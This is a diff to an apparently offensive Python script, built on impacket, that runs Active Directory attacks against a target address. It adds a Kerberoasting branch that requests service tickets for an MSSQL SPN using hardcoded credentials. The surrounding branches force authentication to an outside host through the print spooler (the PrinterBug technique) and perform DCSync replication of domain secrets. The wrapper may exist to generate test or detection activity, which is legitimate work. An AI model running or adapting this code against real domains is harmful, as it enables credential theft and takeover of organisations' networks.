@@ -4,6 +4,9 @@ import sys
 from impacket.dcerpc.v5 import drsuapi, epm, nrpc, rprn, scmr, transport
 from impacket.dcerpc.v5.dtypes import NULL
 from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY
+from impacket.krb5 import constants
+from impacket.krb5.kerberosv5 import getKerberosTGS, getKerberosTGT
+from impacket.krb5.types import Principal
 from impacket.smbconnection import SMBConnection
 
 what, address = sys.argv[1:3]
@@ -35,6 +38,11 @@ if what == 'printer':
     request['pszLocalMachine'] = '\\\\203.0.113.66\x00'
     request['pOptions'] = NULL
     attempt(dce.request, request)
+elif what == 'roast':
+    client = Principal('li', type=constants.PrincipalNameType.NT_PRINCIPAL.value)
+    ticket, cipher, _, key = getKerberosTGT(client, 'Spring2019.', 'EXAMPLE.LAN', b'', b'', kdcHost=address)
+    service = Principal('MSSQLSvc/db01.example.lan:1433', type=constants.PrincipalNameType.NT_SRV_INST.value)
+    attempt(getKerberosTGS, service, 'EXAMPLE.LAN', address, ticket, cipher, key)
 elif what == 'dcsync':
     rpc = transport.DCERPCTransportFactory(epm.hept_map(address, drsuapi.MSRPC_UUID_DRSUAPI, protocol='ncacn_ip_tcp'))
     rpc.set_credentials(USER, PASSWORD, DOMAIN)
